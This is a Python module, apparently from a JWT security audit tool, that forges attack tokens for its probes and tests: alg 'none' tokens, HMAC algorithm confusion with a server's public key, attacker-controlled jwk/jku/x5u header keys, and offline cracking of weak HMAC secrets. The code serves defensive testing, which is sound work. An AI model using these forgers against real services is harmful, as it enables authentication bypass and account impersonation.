"""Forging attack tokens the way an attacker would: the one implementation, used by the audit's token
probes and by sessionward's own test suite (tests/tokens, tests/test_advisories.py), so they cannot disagree.

Unsigned and re-assembled tokens are base64url JSON put together by hand; everything that signs uses
PyJWT / `cryptography`, except HMAC keyed with a public key's text (PyJWT rightly refuses that key), which
uses the standard library's `hmac`. Nothing here verifies anything for real use.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import hmac
import json
import warnings
from collections.abc import Iterable
from typing import Any

import jwt

__all__ = [
    "ALG_NONE_SPELLINGS",
    "alg_none",
    "b64u",
    "compact",
    "crack_hmac",
    "embedded_key",
    "hmac_signed",
    "looks_like_jwt",
    "parts",
    "payload_of",
    "public_key_texts",
    "resign",
    "signing_input",
    "unb64u",
    "with_signature",
]

ALG_NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")
_HMAC_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
_COMPACT_DOTS = 2  # a compact JWS is header.payload.signature


def b64u(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def unb64u(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _segment(obj: Any) -> str:
    return b64u(json.dumps(obj, separators=(",", ":")).encode())


def signing_input(header: dict[str, Any], payload: dict[str, Any]) -> str:
    """`base64url(header).base64url(payload)`, compact JSON."""
    return f"{_segment(header)}.{_segment(payload)}"


def compact(header: dict[str, Any], payload: dict[str, Any], signature: bytes = b"") -> str:
    """A compact JWS from parts, signature as given (not computed)."""
    return f"{signing_input(header, payload)}.{b64u(signature)}"


def parts(token: str) -> tuple[dict[str, Any], dict[str, Any], bytes]:
    h, p, s = token.split(".")
    return json.loads(unb64u(h)), json.loads(unb64u(p)), unb64u(s)


def payload_of(token: str) -> dict[str, Any]:
    return parts(token)[1]


def looks_like_jwt(text: object) -> bool:
    if not isinstance(text, str) or text.count(".") != _COMPACT_DOTS:
        return False
    try:
        header = json.loads(unb64u(text.split(".", 1)[0]))
    except (ValueError, UnicodeDecodeError):
        return False
    return isinstance(header, dict) and "alg" in header


def _changed(payload: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
    out = dict(payload)
    for name, value in changes.items():
        if value is ...:
            out.pop(name, None)
        else:
            out[name] = value
    return out


def resign(token: str, key: Any, *, alg: str, header: dict[str, Any] | None = None, **payload_changes: Any) -> str:
    """Re-sign a real token's payload (with changes; a value of `...` deletes the claim) under `key`,
    with `header` replacing the JOSE header (PyJWT adds `alg`)."""
    old_header, payload, _ = parts(token)
    hdr = dict(old_header if header is None else header)
    hdr.pop("alg", None)
    # PyJWS signs any payload bytes (jwt.encode would refuse e.g. a list-valued iss).
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # short HMAC keys: forging with a cracked weak secret is the point
        body = json.dumps(_changed(payload, payload_changes)).encode()
        return jwt.PyJWS().encode(body, key, algorithm=alg, headers=hdr)


def alg_none(token: str, alg: str = "none", *, signature: bytes = b"", **payload_changes: Any) -> str:
    """The token's claims (changed as asked) under `{"alg": alg}`, signature as given (empty by default)."""
    header, payload, _ = parts(token)
    return compact({**header, "alg": alg}, _changed(payload, payload_changes), signature)


def with_signature(token: str, signature: bytes, **payload_changes: Any) -> str:
    """The token's header, its claims (changed as asked) and `signature` in place of the real one."""
    header, payload, _ = parts(token)
    if not payload_changes:
        return token.rsplit(".", 1)[0] + "." + b64u(signature)
    return compact(header, _changed(payload, payload_changes), signature)


def hmac_signed(token: str, secret: bytes, *, alg: str = "HS256", header: dict[str, Any] | None = None,
                **payload_changes: Any) -> str:
    """The token's claims signed with HMAC under `secret` as raw bytes: the algorithm-confusion attack,
    where `secret` is the text of the server's public key (CVE-2016-10555, CVE-2022-29217)."""
    old_header, payload, _ = parts(token)
    hdr = {**(old_header if header is None else header), "alg": alg}
    body = signing_input(hdr, _changed(payload, payload_changes))
    return body + "." + b64u(hmac.new(secret, body.encode(), _HMAC_HASHES[alg]).digest())


def public_key_texts(public_key: Any, jwk: dict[str, Any] | None = None) -> dict[str, bytes]:
    """The forms of a public key an attacker would try as an HMAC secret: PEM, OpenSSH, JWK JSON."""
    from cryptography.hazmat.primitives import serialization

    out = {
        "pem": public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo),
    }
    with contextlib.suppress(ValueError):  # not every key type has an OpenSSH form
        out["ssh"] = public_key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    if jwk is not None:
        out["jwk"] = json.dumps(jwk).encode()
    return out


def public_key_from_jwk(jwk: dict[str, Any]) -> Any:
    """A `cryptography` public key from a JWK (RSA, EC or OKP), via PyJWT."""
    kty = jwk.get("kty")
    by_kty: dict[str, type[jwt.algorithms.Algorithm]] = {
        "RSA": jwt.algorithms.RSAAlgorithm,
        "EC": jwt.algorithms.ECAlgorithm,
        "OKP": jwt.algorithms.OKPAlgorithm,
    }
    algo = by_kty.get(str(kty))
    if algo is None:
        raise ValueError(f"unsupported JWK kty {kty!r}")
    return algo.from_jwk(json.dumps(jwk))


def embedded_key(token: str, param: str, *, alg: str = "ES256", url: str = "https://attacker.invalid/keys",
                 **payload_changes: Any) -> str:
    """The token's claims signed with a fresh attacker key (`alg` ES256 or EdDSA), the header pointing at that
    key through `param`: `jwk` (the key itself, CVE-2018-0114), `jku` / `x5u` (a URL the attacker controls), or
    `x5c`."""
    from cryptography.hazmat.primitives.asymmetric import ec, ed25519

    if alg == "EdDSA":
        attacker: Any = ed25519.Ed25519PrivateKey.generate()
        public_jwk = jwt.algorithms.OKPAlgorithm.to_jwk(attacker.public_key(), as_dict=True)
    elif alg == "ES256":
        attacker = ec.generate_private_key(ec.SECP256R1())
        public_jwk = jwt.algorithms.ECAlgorithm.to_jwk(attacker.public_key(), as_dict=True)
    else:
        raise ValueError(f"embedded_key signs with ES256 or EdDSA, not {alg!r}")
    old_header, payload, _ = parts(token)
    value: Any = {
        "jwk": public_jwk,
        "jku": url,
        "x5u": url,
        "x5c": ["MIIBszCCAVmgAwIBAgIU"],
    }[param]
    hdr = {k: v for k, v in old_header.items() if k != "alg"}
    hdr[param] = value
    body = json.dumps(_changed(payload, payload_changes)).encode()
    return jwt.PyJWS().encode(body, attacker, algorithm=alg, headers=hdr)


def crack_hmac(token: str, candidates: Iterable[str]) -> str | None:
    """The secret among `candidates` that verifies an HS256/384/512 token (offline, with PyJWT), else None."""
    header, _, _ = parts(token)
    alg = header.get("alg")
    if alg not in _HMAC_HASHES:
        return None
    jws = jwt.PyJWS()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # PyJWT warns about short HMAC keys: they are what we look for
        for secret in candidates:
            try:
                jws.decode(token, secret, algorithms=[alg])
            except jwt.InvalidSignatureError:
                continue
            except jwt.PyJWTError:
                return None
            return secret
    return None


def weak_secrets() -> list[str]:
    """The shipped list of common JWT/HMAC secrets (src/sessionward/data/jwt-secrets.txt)."""
    from importlib.resources import files

    text = files("sessionward").joinpath("data/jwt-secrets.txt").read_text("utf-8")
    return [line for line in text.splitlines() if line and not line.startswith("#")]
